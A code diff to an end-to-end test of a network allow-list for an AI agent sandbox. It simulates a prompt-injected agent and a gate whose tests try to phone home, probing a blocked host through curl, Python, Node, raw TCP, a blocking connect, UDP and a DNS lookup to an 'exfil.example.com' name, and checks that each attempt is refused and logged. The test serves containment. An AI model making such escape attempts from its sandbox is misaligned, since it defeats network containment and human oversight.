@@ -17,9 +17,13 @@ import { startAnthropicServer, type AnthropicServer, type AnthropicStep } from '
  * A prompt-injected agent, and a gate whose tests were written to phone home, try every way out of
  * the runner to a host outside the allow-list (a second loopback address with a server on it
  * stands in for the internet): curl, curl through a CONNECT tunnel, Python's urllib, Node's fetch,
- * a raw TCP connect and a DNS lookup. Each fails and is listed with its process; the same to an
- * allowed host succeeds; the model calls are still metered.
+ * a raw TCP connect, a blocking one, a UDP datagram and a DNS lookup. Each fails and is listed with
+ * its process; the same to an allowed host succeeds; the model calls are still metered.
  */
+
+/** Where the probe's blocking connect and UDP datagram go, on the probed host. */
+const BLOCKING_PORT = 9
+const UDP_PORT = 5000
 
 const TOKEN = 'ghs_egressE2eToken000000000000000000001'
 const MODEL_KEY = 'sk-ant-egress-e2e-key-held-by-loopgate'
@@ -53,6 +57,8 @@ function probe(base: string, tag: string): string {
     urllib: py(`import urllib.request; urllib.request.urlopen('${base}/${tag}-urllib', timeout=5).read()`),
     fetch: node(`fetch('${base}/${tag}-fetch').then(() => process.exit(0), () => process.exit(1))`),
     tcp: node(`require('net').connect(${port}, '${hostname}').on('connect', () => process.exit(0)).on('error', () => process.exit(1))`),
+    blocking: py(`import socket; socket.socket().connect(('${hostname}', ${BLOCKING_PORT}))`),
+    udp: py(`import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('${hostname}', ${UDP_PORT}))`),
     dns: py(`import socket; socket.gethostbyname('${tag}.exfil.example.com')`)
   }
   return Object.entries(ways)
@@ -129,8 +135,10 @@ describe('the network of the agent and the gate is an allow-list, through the bu
     expect(body).toContain('<summary>Network refused</summary>')
     expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${outside.port} \` \\| [48] \\|`))
     expect(body).toMatch(new RegExp(`\\| ${process} \\| DNS lookup of \` ${process === 'agent' ? 'agent' : 'gate-out'}\\.exfil\\.example\\.com \` \\|`))
-    // The raw TCP connect is listed with where it went.
+    // The raw TCP connect, the blocking one and the datagram are listed with where they went.
     expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${outside.port} \\(direct connection\\) \` \\| [12] \\|`))
+    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${BLOCKING_PORT} \\(direct connection\\) \` \\| [12] \\|`))
+    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${UDP_PORT} \\(UDP datagram\\) \` \\| [12] \\|`))
   }
 
   it('the real claude CLI: every way out fails and is listed, the allowed host is reached, the calls are metered', async () => {
@@ -192,6 +200,24 @@ describe('the network of the agent and the gate is an allow-list, through the bu
     expect(gh.issues).toHaveLength(1)
     expectRefusedAndListed(gh.issues[0].body, 'agent')
     expectRefusedAndListed(gh.issues[0].body, 'gate')
+    // The attempt log (per call, per gate run) and the summary name the blocking connect and the datagram too.
+    const notes = readAttemptLog(r.outputs['log-file']).flatMap((e) => ('notes' in e && Array.isArray(e.notes) ? (e.notes as string[]) : []))
+    for (const [process, during] of [
+      ['agent', 'call'],
+      ['gate', 'gate']
+    ])
+      expect(
+        notes.filter(
+          (n) =>
+            n.startsWith(`network refused during the ${during}: `) &&
+            n.includes(`${process}: 127.0.0.2:${BLOCKING_PORT} (direct connection) ×1`) &&
+            n.includes(`${process}: 127.0.0.2:${UDP_PORT} (UDP datagram) ×1`)
+        ).length
+      ).toBeGreaterThan(0)
+    for (const process of ['agent', 'gate']) {
+      expect(r.summary).toContain(`${process}: 127.0.0.2:${BLOCKING_PORT} (direct connection)`)
+      expect(r.summary).toContain(`${process}: 127.0.0.2:${UDP_PORT} (UDP datagram)`)
+    }
   }, 360_000)
 })
 
